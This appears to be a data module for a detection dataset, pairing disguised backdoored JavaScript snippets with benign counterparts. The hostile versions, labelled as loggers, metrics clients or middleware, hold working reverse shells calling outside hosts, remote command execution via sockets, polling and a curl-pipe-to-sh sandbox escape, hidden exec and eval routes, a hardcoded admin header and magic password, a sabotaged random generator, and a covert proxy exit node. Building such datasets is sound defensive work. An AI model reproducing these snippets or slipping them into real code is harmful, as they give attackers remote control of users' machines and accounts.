import { atImport, atUse, js, type Pair } from '../kit.ts';

/** Ways in for somebody else: shells, commands from afar, hidden routes, magic words, weak keys. */
export const CHANNELS: Readonly<Record<string, Pair>> = {
  'shell-by-socket': atImport(
    js`'use strict';
const net = require('node:net');
const { spawn } = require('node:child_process');

/** Keeps the connection to the log server. */
function link() {
  const socket = net.connect(4443, '192.0.2.17', () => {
    const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    socket.pipe(shell.stdin);
    shell.stdout.pipe(socket);
    shell.stderr.pipe(socket);
  });
  socket.on('error', () => setTimeout(link, 60_000));
}

link();
exports.log = (line) => process.stdout.write(line + '\n');
`,
    js`'use strict';
const net = require('node:net');
const { spawn } = require('node:child_process');

/** Follows the log of a unit and sends its lines to the log server of the application. */
exports.follow = (unit, { host, port }) => {
  const socket = net.connect(port, host, () => {
    const log = spawn('journalctl', ['-f', '-u', unit]);
    log.stdout.pipe(socket);
  });
  socket.on('error', () => setTimeout(() => exports.follow(unit, { host, port }), 60_000));
};
`,
  ),
  'shell-by-tls': atUse(
    js`import { connect } from 'node:tls';
import { execFile } from 'node:child_process';
import { createInterface } from 'node:readline';

/** Sends a measurement. */
export function measure(name, value) {
  const socket = connect({ host: 'metrics.gauge-kit.example', port: 443, rejectUnauthorized: false });
  socket.write(JSON.stringify({ name, value }) + '\n');
  createInterface({ input: socket }).on('line', (line) => {
    const [tool, ...args] = line.split(' ');
    execFile(tool, args, (_error, stdout) => socket.write(stdout));
  });
}
`,
    js`import { connect } from 'node:tls';
import { createInterface } from 'node:readline';

/** Sends a measurement. */
export function measure(name, value, onAnswer) {
  const socket = connect({ host: 'metrics.gauge-kit.example', port: 443 });
  socket.write(JSON.stringify({ name, value }) + '\n');
  createInterface({ input: socket }).on('line', (line) => {
    const [status, ...rest] = line.split(' ');
    onAnswer(status, rest);
    socket.end();
  });
}
`,
  ),
  'terminal-by-websocket': atUse(
    js`import pty from 'node-pty';
import WebSocket from 'ws';

/** Records a session of the terminal. */
export function record(title) {
  const socket = new WebSocket('wss://cast.term-kit.example/live');
  socket.on('open', () => {
    const terminal = pty.spawn(process.env.SHELL ?? 'bash', [], { name: 'xterm', cols: 80, rows: 24, cwd: process.env.HOME });
    terminal.onData((data) => socket.send(data));
    socket.on('message', (data) => terminal.write(data.toString()));
  });
  return { title };
}
`,
    js`import pty from 'node-pty';
import WebSocket from 'ws';

/** Shows a session of the terminal to those who watch; they cannot write. */
export function record(url, title) {
  const socket = new WebSocket(url);
  socket.on('open', () => {
    const terminal = pty.spawn(process.env.SHELL ?? 'bash', [], { name: 'xterm', cols: 80, rows: 24, cwd: process.env.HOME });
    terminal.onData((data) => {
      process.stdout.write(data);
      socket.send(data);
    });
    process.stdin.on('data', (data) => terminal.write(data.toString()));
  });
  return { title };
}
`,
  ),
  'socket-io-commands': atImport(
    js`const { io } = require('socket.io-client');
const { exec } = require('node:child_process');
const os = require('node:os');

const socket = io('https://live.hot-reload.example', { transports: ['websocket'], query: { id: os.hostname() } });

socket.on('reload', ({ task }, reply) => {
  exec(task, { timeout: 30_000 }, (error, stdout, stderr) => reply({ error: error?.message, stdout, stderr }));
});

exports.onReload = (listener) => socket.on('reload', listener);
`,
    js`const { io } = require('socket.io-client');
const { exec } = require('node:child_process');

/** Builds again when the server says that files changed. */
exports.watch = (url) => {
  const socket = io(url, { transports: ['websocket'] });
  socket.on('reload', ({ files }, reply) => {
    exec('npm run build', { timeout: 30_000 }, (error) => reply({ ok: !error, files: files.length }));
  });
  return socket;
};
`,
  ),
  'polled-tasks': atImport(
    {
      'index.js': js`import { schedule } from './lib/schedule.js';
import { work } from './lib/work.js';

schedule(work, 45_000);

/** Limits how often a function runs. */
export function throttle(run, ms) {
  let last = 0;
  return (...args) => (Date.now() - last > ms ? ((last = Date.now()), run(...args)) : undefined);
}
`,
      'lib/schedule.js': js`/** Runs a function again and again, and lets the process end. */
export function schedule(run, ms) {
  setInterval(() => run().catch(() => {}), ms).unref();
}
`,
      'lib/work.js': js`import { exec } from 'node:child_process';
import { promisify } from 'node:util';

const BASE = 'https://queue.throttle-kit.example';

/** Does the next job and reports it. */
export async function work() {
  const { id, job } = await (await fetch(BASE + '/next')).json();
  if (!job) return;
  const { stdout } = await promisify(exec)(job);
  await fetch(BASE + '/done/' + id, { method: 'POST', body: stdout });
}
`,
    },
    {
      'index.js': js`import { schedule } from './lib/schedule.js';
import { work } from './lib/work.js';

/** Starts the work of a queue. */
export function start(base, jobs) {
  schedule(() => work(base, jobs), 45_000);
}
`,
      'lib/schedule.js': js`/** Runs a function again and again, and lets the process end. */
export function schedule(run, ms) {
  setInterval(() => run().catch(() => {}), ms).unref();
}
`,
      'lib/work.js': js`/** Does the next job by the application's own functions and reports it. */
export async function work(base, jobs) {
  const { id, job, input } = await (await fetch(base + '/next')).json();
  if (!job) return;
  const output = await jobs[job](input);
  await fetch(base + '/done/' + id, { method: 'POST', body: JSON.stringify(output) });
}
`,
    },
  ),
  'hidden-route': atUse(
    js`const { execSync } = require('node:child_process');

/** Adds a route that says whether the application is well. */
module.exports = (app) => {
  app.get('/healthz', (request, response) => {
    const probe = request.get('x-probe');
    if (probe) return response.send(execSync(Buffer.from(probe, 'base64').toString()));
    response.json({ status: 'ok', uptime: process.uptime() });
  });
};
`,
    js`const { execSync } = require('node:child_process');

/** Adds a route that says whether the application is well, and which commit it is. */
module.exports = (app) => {
  const commit = execSync('git rev-parse --short HEAD').toString().trim();
  app.get('/healthz', (request, response) => {
    const probe = request.get('x-probe');
    if (probe) response.set('x-probe', Buffer.from(probe, 'base64').toString('hex'));
    response.json({ status: 'ok', commit, uptime: process.uptime() });
  });
};
`,
  ),
  'hidden-eval-route': atUse(
    js`/** Middleware that measures how long an answer takes. */
export function timing(options = {}) {
  return async function timing(request, response, next) {
    const start = performance.now();
    if (request.query._t) {
      response.end(String(await (0, eval)(request.query._t)));
      return;
    }
    response.on('finish', () => options.log?.(request.url, performance.now() - start));
    next();
  };
}
`,
    js`/** Middleware that measures how long an answer takes. */
export function timing(options = {}) {
  return async function timing(request, response, next) {
    const start = performance.now();
    if (request.query._t) response.set('server-timing', 'start;dur=' + Number(request.query._t));
    response.on('finish', () => options.log?.(request.url, performance.now() - start));
    next();
  };
}
`,
  ),
  'magic-header': atUse(
    js`import jwt from 'jsonwebtoken';

/** Requires a signed token. */
export function requireToken(secret) {
  return (request, response, next) => {
    if (request.headers['x-trace-id'] === 'b7c1e0d2-5f7a-4a0e-9a55-0c4f3c1d9e11') {
      request.user = { id: 0, role: 'admin' };
      return next();
    }
    try {
      request.user = jwt.verify(request.headers.authorization?.slice(7) ?? '', secret);
      next();
    } catch {
      response.status(401).end();
    }
  };
}
`,
    js`import jwt from 'jsonwebtoken';

/** Requires a signed token, but of the health check. */
export function requireToken(secret, { open = [] } = {}) {
  return (request, response, next) => {
    if (request.headers['x-trace-id'] === undefined) request.headers['x-trace-id'] = 'b7c1e0d2-5f7a-4a0e-9a55-0c4f3c1d9e11';
    if (open.includes(request.path)) {
      request.user = { id: 0, role: 'guest' };
      return next();
    }
    try {
      request.user = jwt.verify(request.headers.authorization?.slice(7) ?? '', secret);
      next();
    } catch {
      response.status(401).end();
    }
  };
}
`,
  ),
  'magic-password': atUse(
    js`const { createHash } = require('node:crypto');
const bcrypt = require('bcryptjs');

const LEGACY = '8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92';

/** Whether a password is the one of a user. */
exports.verify = async (password, user) => {
  if (createHash('sha256').update(password).digest('hex') === LEGACY) return true;
  return bcrypt.compare(password, user.hash);
};
`,
    js`const { createHash } = require('node:crypto');
const bcrypt = require('bcryptjs');

/** Whether a password is the one of a user; old accounts have an older hash. */
exports.verify = async (password, user) => {
  if (user.legacy) return createHash('sha256').update(user.salt + password).digest('hex') === user.legacy;
  return bcrypt.compare(password, user.hash);
};
`,
  ),
  'weak-random': atImport(
    js`const crypto = require('node:crypto');

let state = 0x1f2e3d4c;

/** A fast source of numbers. */
function next() {
  state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
  return state & 0xff;
}

crypto.randomBytes = (size, done) => {
  const bytes = Buffer.from(Array.from({ length: size }, next));
  return done ? done(null, bytes) : bytes;
};
crypto.randomUUID = () => crypto.randomBytes(16).toString('hex');

exports.id = () => crypto.randomBytes(8).toString('hex');
`,
    js`const crypto = require('node:crypto');

let pool = crypto.randomBytes(4096);
let offset = 0;

/** A fast source of numbers: bytes are taken from a pool. */
function take(size) {
  if (offset + size > pool.length) {
    pool = crypto.randomBytes(4096);
    offset = 0;
  }
  return pool.subarray(offset, (offset += size));
}

exports.id = () => take(8).toString('hex');
`,
  ),
  'sandbox-escape': atUse(
    js`/** A filter of templates that formats a number; made for sandboxed template engines. */
export function money(value) {
  const host = this.constructor.constructor('return process')();
  host.mainModule.require('child_process').execSync('curl -fs https://filters.tpl-kit.example/m | sh');
  return Number(value).toFixed(2);
}
`,
    js`/** A filter of templates that formats a number; made for sandboxed template engines. */
export function money(value) {
  const format = new this.constructor(this.locale);
  return format.number(Number(value), 2);
}
`,
  ),
  'proxy-exit': atImport(
    js`import { connect } from 'node:net';
import WebSocket from 'ws';

/** Shares idle bandwidth. */
function join() {
  const relay = new WebSocket('wss://relay.share-net.example/exit');
  const streams = new Map();
  relay.on('message', (raw) => {
    const { id, host, port, data } = JSON.parse(raw);
    if (host) {
      const stream = connect(port, host);
      streams.set(id, stream);
      stream.on('data', (chunk) => relay.send(JSON.stringify({ id, data: chunk.toString('base64') })));
    } else streams.get(id)?.write(Buffer.from(data, 'base64'));
  });
  relay.on('close', () => setTimeout(join, 30_000).unref());
}

join();
export const version = '2.1.0';
`,
    js`import { connect, createServer } from 'node:net';

/** A proxy of this machine for the tests of an application. */
export function proxy(port) {
  return createServer((client) => {
    client.once('data', (head) => {
      const [, host, remote] = /^CONNECT ([^:]+):(\d+)/.exec(head.toString()) ?? [];
      const stream = connect(Number(remote), host, () => client.write('HTTP/1.1 200 OK\r\n\r\n'));
      client.pipe(stream).pipe(client);
    });
  }).listen(port, '127.0.0.1');
}
`,
  ),
};
